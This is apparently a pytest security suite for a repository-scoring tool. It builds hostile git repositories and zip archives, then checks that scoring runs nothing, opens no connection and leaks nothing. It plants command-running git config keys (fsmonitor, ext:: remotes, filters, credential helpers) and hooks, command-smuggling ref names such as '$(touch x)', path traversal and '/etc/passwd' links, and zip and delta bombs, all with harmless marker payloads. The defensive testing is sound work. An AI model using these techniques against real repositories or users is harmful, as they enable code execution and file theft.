"""Sources made by someone who wants to run, read, write or reach something, or to stop the service.

Every case is scored by the real command line. It must end as said (a report, or one line that refuses it) within
bounds of time and memory, run nothing, leave the input as it was and nothing behind, open no connection, and tell
nothing of files that lie outside.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from assessor.analysis.engine import Options, score
from assessor.analysis.gate import Gate, Route
from assessor.analysis.limits import Limits, SourceError
from assessor.analysis.source import fetch
from tests.analysis.samples import NET, SERVICE, SHOP, make_zip
from tests.gitrepo import commit, make_repo, run_git
from tests.security import objects
from tests.security.objects import FILE, FOLDER, LINK, SUBMODULE

SECONDS = 15.0
MEMORY = 512 << 20
CANARY = "canary-4f1c9e"
ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Trap:
    """Hold what a source may try to touch: a marker, a file outside, an address that counts who calls."""

    folder: Path
    address: tuple[str, int]
    calls: list[Any] = field(default_factory=list)

    @property
    def marker(self) -> Path:
        return self.folder / "marker"

    @property
    def command(self) -> str:
        """A shell command that leaves a mark."""
        return f"touch {self.marker}"

    @property
    def script(self) -> Path:
        """A program that leaves a mark."""
        path = self.folder / "mark.sh"
        if not path.exists():
            path.write_text(f"#!/bin/sh\n{self.command}\n")
            path.chmod(0o755)
        return path

    @property
    def secret(self) -> Path:
        """A file outside the source, which would be evidence if it were read."""
        path = self.folder / "outside.py"
        path.write_text(SERVICE.replace("show", CANARY.replace("-", "_")) + f"# {CANARY}\n")
        return path

    @property
    def url(self) -> str:
        return "http://{}:{}/owner/name".format(*self.address)


@pytest.fixture
def trap(tmp_path: Path) -> Iterator[Trap]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        (tmp_path / "trap").mkdir()
        made = Trap(tmp_path / "trap", server.getsockname())

        def listen() -> None:
            while True:
                try:
                    connection, caller = server.accept()
                except OSError:
                    return
                made.calls.append(caller)
                connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield made
        server.shutdown(socket.SHUT_RDWR)


@dataclass(frozen=True)
class Ended:
    """Hold how one run of the command line ended; `memory` is the peak of it and of all its children."""

    code: int
    output: str
    told: str
    seconds: float
    memory: int

    @property
    def report(self) -> dict[str, Any]:
        found: dict[str, Any] = json.loads(self.output)
        return found

    def grades(self) -> dict[str, int | None]:
        return {one["key"]: one["grade"] for one in self.report["signals"]}


def run(source: str, folder: Path, *arguments: str, **environment: str) -> Ended:
    """Score a source in a home and a folder for temporary files of its own, which must be empty afterwards."""
    home, scratch = folder / "home", folder / "scratch"
    home.mkdir(exist_ok=True)
    scratch.mkdir()
    command = [sys.executable, "-m", "assessor", "score", "--format", "json", "--no-cache", *arguments, "--", source]
    with (folder / "out").open("wb") as out, (folder / "err").open("wb") as err:
        began = time.monotonic()
        process = subprocess.Popen(
            command,
            stdout=out,
            stderr=err,
            stdin=subprocess.DEVNULL,
            cwd=ROOT,
            env={**os.environ, "HOME": str(home), "TMPDIR": str(scratch), **environment},
            start_new_session=True,
        )
        limit = threading.Timer(4 * SECONDS, os.killpg, (process.pid, signal.SIGKILL))
        limit.start()
        _, status, used = os.wait4(process.pid, 0)
        limit.cancel()
        process.returncode = os.waitstatus_to_exitcode(status)
    assert list(scratch.iterdir()) == [], "temporary files were left behind"
    return Ended(
        process.returncode,
        (folder / "out").read_text(),
        (folder / "err").read_text(),
        time.monotonic() - began,
        used.ru_maxrss << 10,
    )


def snapshot(folder: Path) -> dict[str, tuple[object, ...]]:
    """Return what lies in a folder: names, kinds, times, and a digest of small files."""
    found: dict[str, tuple[object, ...]] = {}
    for parent, folders, names in os.walk(folder):
        for name in (*folders, *names):
            path = Path(parent, name)
            told = path.lstat()
            small = path.is_file() and not path.is_symlink() and told.st_size < 1 << 20
            digest = hashlib.sha1(path.read_bytes()).hexdigest() if small else None
            found[str(path)] = (told.st_mode, told.st_size, told.st_mtime_ns, digest)
    return found


READ, REFUSED = 0, 2


@dataclass(frozen=True)
class Case:
    """Hold one hostile source: how it is made, how scoring it must end, what the report must hold."""

    make: Callable[[Path, Trap], Path | str]
    code: int | None
    check: Callable[[dict[str, Any]], bool] | None = None


CASES: dict[str, Case] = {}
Maker = Callable[[Path, Trap], Path | str]


def case(code: int | None, check: Callable[[dict[str, Any]], bool] | None = None) -> Callable[[Maker], Maker]:
    """Add the source that a function makes; `code` None says that reading and refusing are both right."""

    def add(make: Maker) -> Maker:
        CASES[make.__name__] = Case(make, code, check)
        return make

    return add


def has_route(report: dict[str, Any]) -> bool:
    return any(one["key"] == "http-api" and one["outcome"] == "present" for one in report["signals"])


def skips(*names: str) -> Callable[[dict[str, Any]], bool]:
    """Return a check that these files were skipped, with a reason, and the service beside them was read."""

    def check(report: dict[str, Any]) -> bool:
        return {one["path"] for one in report["skipped"] if one["reason"]} == set(names) and has_route(report)

    return check


def tells(limit: str) -> Callable[[dict[str, Any]], bool]:
    return lambda report: limit in report["limits_hit"]


# Commands planted in what git reads


def configuration(trap: Trap) -> str:
    run_it = trap.script
    return f"""
[core]
\trepositoryformatversion = 1
\tfsmonitor = {run_it}
\thooksPath = {trap.folder}
\tsshCommand = {run_it}
\tgitProxy = {run_it}
\teditor = {run_it}
\tpager = {run_it}
\taskPass = {run_it}
\talternateRefsCommand = {run_it}
\tworktree = /
\tattributesFile = {trap.folder}/attributes
[extensions]
\tpartialClone = origin
\tworktreeConfig = true
[remote "origin"]
\turl = ext::{run_it}
\tpromisor = true
\tuploadpack = {run_it}
\tvcs = ext
[protocol]
\tallow = always
[protocol "ext"]
\tallow = always
[url "ext::{run_it} #"]
\tinsteadOf = https://
[alias]
\tcat-file = !{run_it}
\tls-tree = !{run_it}
\tblame = !{run_it}
[pager]
\tblame = {run_it}
[credential]
\thelper = !{run_it}
[filter "x"]
\tclean = {run_it}
\tsmudge = {run_it}
\tprocess = {run_it}
\trequired = true
[diff]
\texternal = {run_it}
[diff "x"]
\tcommand = {run_it}
\ttextconv = {run_it}
[uploadpack]
\tpackObjectsHook = {run_it}
[gpg]
\tprogram = {run_it}
[log]
\tshowSignature = true
[include]
\tpath = {trap.folder}/included
[includeIf "gitdir:/"]
\tpath = {trap.folder}/included
[blame]
\tignoreRevsFile = {trap.folder}/outside.py
[mailmap]
\tfile = {trap.folder}/outside.py
"""


def planted(folder: Path, trap: Trap, lost: str | None = None) -> Path:
    """Make a repository whose configuration, included files, attributes and hooks all run the trap's script."""
    attributes = "* filter=x diff=x merge=x ident working-tree-encoding=utf-16\n"
    path = make_repo(folder / "r", {**SHOP, ".gitattributes": attributes, "shop/.gitattributes": attributes})
    git = path / ".git"
    if lost is not None:
        lose(path, lost)
    (git / "config").write_text(configuration(trap))
    (git / "config.worktree").write_text(configuration(trap))
    (trap.folder / "included").write_text(f"[core]\n\tfsmonitor = {trap.script}\n[diff]\n\texternal = {trap.script}\n")
    (trap.folder / "attributes").write_text(attributes)
    (git / "info").mkdir(exist_ok=True)
    (git / "info" / "attributes").write_text(attributes)
    (git / "hooks").mkdir(exist_ok=True)
    for hook in ("post-checkout", "pre-auto-gc", "reference-transaction", "fsmonitor-watchman", "post-index-change"):
        shutil.copy(trap.script, git / "hooks" / hook)
    return path


@case(READ, has_route)
def commands_in_configuration_attributes_and_hooks(folder: Path, trap: Trap) -> Path:
    return planted(folder, trap)


@case(READ, skips("shop/net.py"))
def promisor_with_a_missing_blob(folder: Path, trap: Trap) -> Path:
    return planted(folder, trap, lost="shop/net.py")


@case(READ, skips("shop/net.py"))
def promisor_at_an_address_with_a_missing_blob(folder: Path, trap: Trap) -> Path:
    path = lose(make_repo(folder / "r", SHOP), "shop/net.py")
    (path / ".git" / "config").write_text(
        "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n"
        f'[remote "origin"]\n\turl = {trap.url}\n\tpromisor = true\n\tpartialclonefilter = blob:none\n'
    )
    return path


def lose(path: Path, name: str) -> Path:
    git = path / ".git"
    blob = run_git(path, "rev-parse", f"main:{name}")
    folder = git / "objects" / "pack"
    for pack in list(folder.glob("*.pack")):
        data = pack.read_bytes()
        for file in folder.glob(f"{pack.stem}.*"):
            file.unlink()
        clean = path.parent / "unpacked"
        run_git(path.parent, "init", "-q", "--bare", "unpacked")
        run_git(clean, "unpack-objects", "-q", data=data)
        shutil.copytree(clean / "objects", git / "objects", dirs_exist_ok=True)
        shutil.rmtree(clean)
    (git / "objects" / blob[:2] / blob[2:]).unlink()
    return path


@case(READ, has_route)
def configuration_of_the_user(folder: Path, trap: Trap) -> Path:
    home = folder.parent / "home"
    (home / ".config" / "git").mkdir(parents=True)
    for name in (".gitconfig", ".config/git/config"):
        (home / name).write_text(configuration(trap))
    (home / ".config" / "git" / "attributes").write_text("* diff=x filter=x\n")
    return make_repo(folder / "r", SHOP)


@case(READ, has_route)
def configuration_that_is_no_configuration(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "config").write_bytes(b"[core\n\xff\0" * 1000)
    return path


@case(READ, has_route)
def submodules(folder: Path, trap: Trap) -> Path:
    modules = (
        f'[submodule "a"]\n\tpath = a\n\turl = ext::{trap.script}\n[submodule "b"]\n\tpath = b\n\turl = {trap.url}\n'
    )
    path = make_repo(folder / "r", {**SHOP, ".gitmodules": modules})
    git = path / ".git"
    entries = [(FOLDER, "shop", run_git(path, "rev-parse", "main:shop"))]
    entries += [(SUBMODULE, name, "1" * 40) for name in ("a", "b", "x.py")]
    entries += [(FILE, ".gitmodules", run_git(path, "rev-parse", "main:.gitmodules"))]
    objects.commit_of(git, objects.tree(git, sorted(entries, key=lambda one: one[1])))
    return path


# Metadata that points elsewhere


@case(REFUSED)
def alternates(folder: Path, trap: Trap) -> Path:
    other = make_repo(folder / "other", {"service.py": SERVICE + f"# {CANARY}\n"})
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "objects" / "info").mkdir(exist_ok=True)
    (path / ".git" / "objects" / "info" / "alternates").write_text(f"{other}/.git/objects\n")
    return path


@case(REFUSED)
def http_alternates(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "objects" / "info").mkdir(exist_ok=True)
    (path / ".git" / "objects" / "info" / "http-alternates").write_text(f"{trap.url}/objects\n")
    return path


@case(REFUSED)
def dangling_link_as_alternates(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "objects" / "info").mkdir(exist_ok=True)
    (path / ".git" / "objects" / "info" / "alternates").symlink_to(folder / "later")
    return path


@case(REFUSED)
def gitfile(folder: Path, trap: Trap) -> Path:
    other = make_repo(folder / "other", SHOP)
    (folder / "r").mkdir()
    (folder / "r" / ".git").write_text(f"gitdir: {other}/.git\n")
    return folder / "r"


@case(REFUSED)
def commondir(folder: Path, trap: Trap) -> Path:
    other = make_repo(folder / "other", SHOP)
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "commondir").write_text(f"{other}/.git\n")
    return path


def linked(name: str) -> Maker:
    def make(folder: Path, trap: Trap) -> Path:
        other = make_repo(folder / "other", {"service.py": SERVICE + f"# {CANARY}\n"})
        path = make_repo(folder / "r", SHOP)
        run_git(path, "pack-refs", "--all")
        run_git(other, "pack-refs", "--all")
        ours, theirs = (
            path / ".git" / name if name else path / ".git",
            other / ".git" / name if name else other / ".git",
        )
        shutil.rmtree(ours) if ours.is_dir() else ours.unlink(missing_ok=True)
        ours.symlink_to(theirs)
        return path

    return make


for place in ("", "HEAD", "objects", "objects/pack", "refs", "packed-refs"):
    CASES[f"link_as_{place or 'git_folder'}"] = Case(linked(place), REFUSED)


@case(REFUSED)
def link_as_a_branch(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    secret = folder / "ref"
    secret.write_text(run_git(path, "rev-parse", "main") + "\n")
    (path / ".git" / "refs" / "heads" / "main").unlink()
    (path / ".git" / "refs" / "heads" / "main").symlink_to(secret)
    (path / ".git" / "packed-refs").write_text(f"{'1' * 40} refs/heads/other\n")
    return path


@case(REFUSED)
def link_as_an_object(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    other = objects.empty_git(folder / "other.git")
    blob = objects.put(other, "blob", SERVICE.encode())
    objects.commit_of(git, objects.tree(git, [(FILE, "service.py", blob)]))
    (git / "objects" / blob[:2]).mkdir(exist_ok=True)
    (git / "objects" / blob[:2] / blob[2:]).symlink_to(other / "objects" / blob[:2] / blob[2:])
    return git


@case(REFUSED)
def pipe_as_an_object(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    objects.commit_of(git, objects.tree(git, [(FILE, "service.py", "ab" * 20)]))
    (git / "objects" / "ab").mkdir(exist_ok=True)
    os.mkfifo(git / "objects" / "ab" / ("ab" * 19))
    return git


@case(REFUSED)
def pipe_as_a_pack(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    for end in ("pack", "idx"):
        os.mkfifo(path / ".git" / "objects" / "pack" / f"pack-{'0' * 40}.{end}")
    return path


@case(READ, has_route)
def file_among_the_folders_of_objects(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    (git / "objects" / "00").write_text("no folder")
    blob = objects.put(
        git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode()
    )
    objects.commit_of(git, objects.tree(git, [(FILE, "service.py", blob)]))
    return git


@case(READ, has_route)
def graph_and_index_of_packs_that_lie(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    info = path / ".git" / "objects" / "info"
    info.mkdir(exist_ok=True)
    (info / "commit-graph").write_bytes(b"CGPH\x01\x01\xff\xff" + random.Random(1).randbytes(5000))
    (path / ".git" / "objects" / "pack" / "multi-pack-index").write_bytes(b"MIDX\x01\x01\xff\0" + bytes(5000))
    return path


@case(READ, has_route)
def replaced_objects(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", {**SHOP, "shop/service.py": "x = 1\n", "a.py": SHOP["shop/service.py"]})
    real, fake = run_git(path, "rev-parse", "main:a.py"), run_git(path, "rev-parse", "main:shop/service.py")
    run_git(path, "replace", real, fake)
    return path


@case(READ, lambda report: not has_route(report))
def replaced_commit(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", {"a.py": "x = 1\n"})
    real = run_git(path, "rev-parse", "main")
    fake = commit(path, SHOP)
    run_git(path, "update-ref", "refs/heads/main", real)
    run_git(path, "replace", real, fake)
    return path


@case(READ, has_route)
def grafts(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "info").mkdir(exist_ok=True)
    (path / ".git" / "info" / "grafts").write_text(f"{run_git(path, 'rev-parse', 'main')} {'1' * 40}\n")
    (path / ".git" / "shallow").write_text("not a commit\n../../x\n" + "f" * 40 + "\n")
    return path


# HEAD and refs


def headed(content: bytes | None) -> Maker:
    def make(folder: Path, trap: Trap) -> Path:
        path = make_repo(folder / "r", SHOP)
        (folder / "x").write_text(run_git(path, "rev-parse", "main") + "\n")
        (path / ".git" / "HEAD").unlink()
        if content is None:
            os.mkfifo(path / ".git" / "HEAD")
        else:
            (path / ".git" / "HEAD").write_bytes(content)
        return path

    return make


for name, text in {
    "outside": b"ref: ../../x\n",
    "outside_below_refs": b"ref: refs/heads/../../../x\n",
    "absolute": b"ref: /etc/passwd\n",
    "reflog": b"ref: refs/heads/main@{1}\n",
    "option": b"ref: --output=x\n",
    "id_that_is_missing": b"1" * 40 + b"\n",
    "nothing": b"",
    "noise": random.Random(2).randbytes(5000),
    "pipe": None,
    "reftable": b"ref: refs/heads/.invalid\n",
    "large": b"ref: refs/heads/" + b"a" * (8 << 20),
}.items():
    CASES[f"head_{name}"] = Case(headed(text), REFUSED)


@case(REFUSED)
def head_at_a_branch_that_names_itself(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "refs" / "heads" / "main").write_text("ref: refs/heads/main\n")
    return path


@case(REFUSED)
def head_at_a_tree(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    (path / ".git" / "HEAD").write_text(run_git(path, "rev-parse", "main^{tree}") + "\n")
    return path


@case(READ, has_route)
def odd_names_of_refs(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    sha = run_git(path, "rev-parse", "main")
    odd = [
        "--upload-pack=x",
        "-x",
        "a b",
        "a\tb",
        "$(touch x)",
        "é",
        "..",
        "a..b",
        "a.lock",
        "HEAD",
        "@{-1}",
        "x" * 1000,
    ]
    (path / ".git" / "packed-refs").write_text("".join(f"{sha} refs/heads/{name}\n" for name in odd))
    (path / ".git" / "refs" / "heads" / "-x").write_text(sha + "\n")
    (path / ".git" / "refs" / "heads" / "a\nb").write_text(sha + "\n")
    return path


@case(READ, has_route)
def packed_refs_of_60_mb(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    run_git(path, "pack-refs", "--all", "--prune")
    with (path / ".git" / "packed-refs").open("ab") as file:
        file.write(b"\n" * (60 << 20))
    return path


@case(READ, has_route)
def a_chain_of_5000_tags(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    sha, kind = run_git(path, "rev-parse", "main"), "commit"
    for _ in range(5000):
        sha, kind = objects.put(path / ".git", "tag", f"object {sha}\ntype {kind}\ntag t\n\n\n".encode()), "tag"
    (path / ".git" / "HEAD").write_text(sha + "\n")
    return path


# Commits and trees that git does not make


def dated(who: str) -> Maker:
    def make(folder: Path, trap: Trap) -> Path:
        path = make_repo(folder / "r", SHOP)
        objects.commit_of(path / ".git", run_git(path, "rev-parse", "main^{tree}"), who=who)
        return path

    return make


for name, who in {
    "far": "A <ada@example.org> 999999999999 +0000",
    "beyond": f"A <ada@example.org> {'9' * 30} +0000",
    "negative": "A <ada@example.org> -5 +0000",
    "missing": "A <ada@example.org>",
    "nobody": "",
    "zone": "A <ada@example.org> 1700000000 +9999",
    "brackets": "<<<>>> <a>b<c>@<>> 1700000000 +0000",
}.items():
    CASES[f"date_{name}"] = Case(dated(who), READ, lambda report: report["commit"]["committed_at"].endswith("Z"))


@case(None)
def a_commit_of_400_mb(folder: Path, trap: Trap) -> Path:
    path = make_repo(folder / "r", SHOP)
    top = run_git(path, "rev-parse", "main^{tree}")
    who = objects.WHO
    message = f"tree {top}\nauthor {who}\ncommitter {who}\n\n".encode()
    objects.point(path / ".git", objects.put_zeros(path / ".git", "commit", message, 400))
    return path


def with_tree(make_entries: Callable[[Path, str, str], list[tuple[str, bytes | str, str]]]) -> Maker:
    """Make a repository whose top tree holds a readable service.py and what the function adds."""

    def make(folder: Path, trap: Trap) -> Path:
        git = objects.empty_git(folder / "r.git")
        own = SERVICE.replace("from shop.prices import price", "from math import exp as price")
        blob = objects.put(git, "blob", own.encode())
        link = objects.put(git, "blob", str(trap.secret).encode())
        entries = [*make_entries(git, blob, link), (FILE, "service.py", blob)]
        entries.sort(key=lambda one: os.fsencode(one[1]))
        objects.commit_of(git, objects.tree(git, entries))
        return git

    return make


def names(*given: bytes | str) -> Maker:
    return with_tree(lambda git, blob, link: [(FILE, name, blob) for name in given])


for name, given in {
    "parent": ("..", "../../x.py", ".", "a/../../b.py"),
    "git": (".git", ".GIT", "git~1", ".git/config", ".git/hooks/post-checkout"),
    "absolute": ("/etc/passwd", "/tmp/x.py", "C:\\x.py", "//x.py"),
    "option": ("--output=x.py", "-x.py", ":(top)x.py", ":!x.py"),
    "control": (b"a\nb.py", b"\x1b[2J.py", b"\r.py", b"\x07\x08.py"),
    "bytes": (b"\xff\xfe.py", b"\xed\xa0\x80.py", b"\xc0\xae.py", b"\xff.py"),
    "same": ("a.py", "a.py", "a.py"),
    "long": ("x" * 100_000 + ".py",),
    "templates": ("{{7*7}}.py", "<script>alert(1)</script>.py", "%s%n.py"),
}.items():
    CASES[f"tree_names_{name}"] = Case(names(*given), READ, has_route)

CASES["tree_name_empty"] = Case(names(""), None)


CASES["links_to_files_outside"] = Case(
    with_tree(
        lambda git, blob, link: [
            (LINK, "a.py", link),
            (LINK, "b.py", objects.put(git, "blob", b"/etc/passwd")),
            (LINK, "conftest.py", objects.put(git, "blob", b"../../../../../etc/passwd")),
        ]
    ),
    READ,
    has_route,
)
CASES["odd_modes"] = Case(
    with_tree(
        lambda git, blob, link: [
            (mode, f"m{mode}.py", blob) for mode in ("100777", "0", "140000", "060000", "177777", "1", "104755")
        ]
    ),
    None,
)
CASES["a_file_that_is_called_a_folder"] = Case(with_tree(lambda git, blob, link: [(FOLDER, "lib", blob)]), None)
CASES["a_folder_that_is_called_a_file"] = Case(
    with_tree(lambda git, blob, link: [(FILE, "lib.py", objects.tree(git, []))]), None
)
CASES["a_missing_folder"] = Case(with_tree(lambda git, blob, link: [(FOLDER, "lib", "1" * 40)]), None)
CASES["many_empty_folders"] = Case(
    with_tree(
        lambda git, blob, link: [(FOLDER, f"e{number:05}", objects.put(git, "tree", b"")) for number in range(20_000)]
    ),
    READ,
    has_route,
)


@case(None)
def a_tree_3000_deep(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    top = objects.tree(git, [(FILE, "x.py", objects.put(git, "blob", SERVICE.encode()))])
    for _ in range(3000):
        top = objects.tree(git, [(FOLDER, "deeper", top)])
    objects.commit_of(git, top)
    return git


@case(None)
def a_tree_20000_deep(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    top = objects.put(git, "tree", b"")
    for _ in range(20_000):
        top = objects.tree(git, [(FOLDER, "d", top)])
    objects.commit_of(git, top)
    return git


@case(READ, tells("max-files"))
def folders_alone_10_to_the_10(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    top = objects.put(git, "tree", b"")
    for _ in range(10):
        top = objects.tree(git, [(FOLDER, f"d{number}", top) for number in range(10)])
    objects.commit_of(git, top)
    return git


@case(READ, tells("max-files"))
def one_file_10_to_the_10_times(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    top = objects.tree(git, [(FILE, "x.py", objects.put(git, "blob", SERVICE.encode()))])
    for _ in range(10):
        top = objects.tree(git, [(FOLDER, f"d{number}", top) for number in range(10)])
    objects.commit_of(git, top)
    return git


# Packs


def packed(folder: Path) -> tuple[Path, Path]:
    path = make_repo(folder / "r", SHOP)
    run_git(path, "repack", "-adq")
    (pack,) = (path / ".git" / "objects" / "pack").glob("*.pack")
    pack.chmod(0o644)
    pack.with_suffix(".idx").chmod(0o644)
    return path, pack


def damaged(end: str, damage: Callable[[bytes], bytes]) -> Maker:
    def make(folder: Path, trap: Trap) -> Path:
        path, pack = packed(folder)
        file = pack.with_suffix(end)
        file.write_bytes(damage(file.read_bytes()))
        return path

    return make


def noisy(data: bytes, start: int) -> bytes:
    made, dice = bytearray(data), random.Random(3)
    for _ in range(len(data) // 20):
        made[dice.randrange(start, len(data))] = dice.randrange(256)
    return bytes(made)


for name, (end, damage) in {
    "truncated": (".pack", lambda data: data[: len(data) // 2]),
    "empty": (".pack", lambda data: b""),
    "noisy": (".pack", lambda data: noisy(data, 12)),
    "foreign": (".pack", lambda data: b"\x7fELF" + data[4:]),
}.items():
    CASES[f"pack_{name}"] = Case(damaged(end, damage), None)
for name, damage in {
    "truncated": lambda data: data[:1100],
    "empty": lambda data: b"",
    "noisy": lambda data: noisy(data, 8),
    "wild_offsets": lambda data: data[:-200] + b"\xff" * 160 + data[-40:],
    "fan_of_4_billion": lambda data: data[:8] + b"\xff" * 1024 + data[1032:],
}.items():
    CASES[f"index_of_pack_{name}"] = Case(damaged(".idx", damage), None)


@case(READ, skips("a.py", "b.py"))
def a_circle_of_deltas(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    one, two = "a1" * 20, "b2" * 20
    step = objects.copy(0, 100)
    objects.write_pack(
        git, [(one, objects.ref_delta(two, 100, 100, step)), (two, objects.ref_delta(one, 100, 100, step))]
    )
    return beside_service(git, {"a.py": one, "b.py": two})


def beside_service(git: Path, files: dict[str, str]) -> Path:
    blob = objects.put(
        git, "blob", SERVICE.replace("from shop.prices import price", "from math import exp as price").encode()
    )
    entries = sorted([*files.items(), ("service.py", blob)])
    objects.commit_of(git, objects.tree(git, [(FILE, name, sha) for name, sha in entries]))
    return git


def doubled(count: int, small: int) -> Maker:
    """Make `small` files of ten bytes, each cut out of a base that doubles from delta to delta up to 2**count KB."""

    def make(folder: Path, trap: Trap) -> Path:
        git = objects.empty_git(folder / "r.git")
        size, sha = 1024, f"{0:040x}"
        packed = [(sha, objects.head(objects.BLOB, size) + zlib.compress(b"#" * size))]
        for number in range(1, count + 1):
            pieces = [(start, min(1 << 23, size - start)) for start in range(0, size, 1 << 23)] * 2
            steps = b"".join(objects.copy(*piece) for piece in pieces)
            base, sha = sha, f"{number:040x}"
            packed.append((sha, objects.ref_delta(base, size, size * 2, steps)))
            size *= 2
        files = {}
        for number in range(small):
            name = f"{1000 + number:040x}" if small > 1 else hashlib.sha1(b"blob 10\0" + b"#" * 10).hexdigest()
            files[f"bomb{number:04}.py"] = name
            packed.append((name, objects.ref_delta(sha, size, 10, objects.copy(number, 10))))
        objects.write_pack(git, packed)
        return beside_service(git, files)

    return make


CASES["small_file_cut_out_of_64_mb"] = Case(doubled(16, 1), READ, skips())
CASES["small_file_cut_out_of_4_gb"] = Case(doubled(22, 1), READ, skips("bomb0000.py"))
CASES["300_small_files_cut_out_of_1_gb"] = Case(
    doubled(20, 300),
    READ,
    lambda report: {one["path"] for one in report["skipped"]} >= {f"bomb{n:04}.py" for n in range(300)},
)


@case(READ, skips("big.py"))
def a_blob_of_300_mb(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    return beside_service(git, {"big.py": objects.put_zeros(git, "blob", b"", 300)})


@case(READ, skips("false.py"))
def an_object_under_a_false_name(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    true = objects.put(git, "blob", b"x = 1\n")
    false = objects.put(git, "blob", NET.encode())
    shutil.copy(git / "objects" / false[:2] / false[2:], git / "objects" / true[:2] / true[2:])
    return beside_service(git, {"false.py": true})


@case(READ, skips("liar.py"))
def a_blob_that_is_larger_than_it_says(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    return beside_service(git, {"liar.py": objects.put(git, "blob", b"x = 1\n" * 5_000_000, size=10)})


@case(None)
def a_tree_of_200_mb(folder: Path, trap: Trap) -> Path:
    git = objects.empty_git(folder / "r.git")
    objects.commit_of(git, objects.put_zeros(git, "tree", b"100644 a.py\0" + bytes(20), 200))
    return git


# Archives


def zipped(change: Callable[[zipfile.ZipFile], None] | None = None, **given: str | bytes) -> Maker:
    def make(folder: Path, trap: Trap) -> Path:
        folder.mkdir(exist_ok=True)
        path = make_zip(folder / "a.zip", {**SHOP, **given})
        if change is not None:
            with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
                change(archive)
        return path

    return make


def member(name: str, mode: int = 0o100644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


for name, given_name in {
    "parent": "../../x.py",
    "inner_parent": "shop/../../../x.py",
    "absolute": "/etc/cron.d/x",
    "drive": "C:/x.py",
    "backslash": "..\\..\\x.py",
}.items():
    CASES[f"zip_name_{name}"] = Case(
        zipped(lambda archive, given_name=given_name: archive.writestr(member(given_name), "x = 1\n")), REFUSED
    )


def and_link(archive: zipfile.ZipFile) -> None:
    archive.writestr(member("passwd.py", 0o120777), "/etc/passwd")
    archive.writestr(member("device.py", 0o020666), "")


CASES["zip_links_and_devices"] = Case(zipped(and_link), READ, skips("device.py", "passwd.py"))
CASES["zip_bomb_by_ratio"] = Case(zipped(**{"bomb.py": bytes(100 << 20)}), READ, skips("bomb.py"))
CASES["zip_with_its_own_git_folder"] = Case(
    zipped(lambda archive: archive.writestr(".git/config", "[core]\n\tfsmonitor = touch marker\n")), READ, has_route
)


def patched(change: Callable[[bytearray], None]) -> Maker:
    """Make an archive of stored (not packed) files and change its bytes."""

    def make(folder: Path, trap: Trap) -> Path:
        folder.mkdir(exist_ok=True)
        path = folder / "a.zip"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
            for name, content in {**SHOP, "z.py": b"zebra = 1\n"}.items():
                archive.writestr(name, content)
        data = bytearray(path.read_bytes())
        change(data)
        path.write_bytes(data)
        return path

    return make


def last_entry(data: bytearray) -> int:
    return data.rindex(b"PK\x01\x02")


def break_content(data: bytearray) -> None:
    data[data.index(b"zebra")] ^= 0xFF


def encrypt(data: bytearray) -> None:
    data[last_entry(data) + 8] |= 1
    data[data.rindex(b"PK\x03\x04") + 6] |= 1


def claim_size(data: bytearray) -> None:
    struct.pack_into("<I", data, last_entry(data) + 24, 0x7FFFFFF0)


def claim_method(data: bytearray) -> None:
    struct.pack_into("<H", data, last_entry(data) + 10, 99)


def move_out(data: bytearray) -> None:
    struct.pack_into("<I", data, last_entry(data) + 42, 0x7FFFFFF0)


def cut_off(data: bytearray) -> None:
    del data[len(data) // 2 :]


def shuffle(data: bytearray) -> None:
    data[:] = noisy(bytes(data), 4)


CASES["zip_broken_checksum"] = Case(patched(break_content), READ, skips("z.py"))
CASES["zip_encrypted"] = Case(patched(encrypt), REFUSED)
CASES["zip_size_that_lies"] = Case(patched(claim_size), READ, skips("z.py"))
CASES["zip_unknown_method"] = Case(patched(claim_method), READ, skips("z.py"))
CASES["zip_member_beyond_the_end"] = Case(patched(move_out), None)
